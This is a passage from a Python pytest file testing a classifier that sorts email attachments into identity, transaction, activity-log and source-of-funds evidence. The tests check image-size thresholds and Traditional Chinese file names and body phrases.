    assert assess([shot], "screenshot of the withdrawal record", LIMITS).present == ("transactions",)


def test_small_referenced_image_is_decoration_but_large_is_not() -> None:
    small = att("image.png", PNG, inline=True, content_id="<a@x>", referenced=True)
    large = att("image.png", blob(PNG[:16], 60_000, 16), inline=True, content_id="<a@x>", referenced=True)
    assert assess([small], "passport attached", LIMITS).present == ()
    assert assess([large], "passport attached", LIMITS).present == ("identity",)


@pytest.mark.parametrize(
    ("name", "kind"),
    [("身分證.jpg", "identity"), ("證件照.png", "identity"), ("護照.jpg", "identity"), ("居留證.jpg", "identity"),
     ("駕照正面.jpg", "identity"), ("健保卡.jpg", "identity"), ("交易紀錄.png", "transactions"), ("對帳單.pdf", "transactions"),
     ("登入紀錄.png", "activity_log"), ("薪資證明.pdf", "source_of_funds")],
)
def test_traditional_spellings(name: str, kind: str) -> None:
    payload = PDF if name.endswith(".pdf") else PNG
    assert one(name, payload).present == (kind,)


@pytest.mark.parametrize("body", ["附上身分證正反面", "檢附護照影本", "附件是我的居留證", "照片是駕照"])
def test_traditional_spellings_in_the_body(body: str) -> None:
    assert one("IMG_3001.jpg", JPEG, body).present == ("identity",)
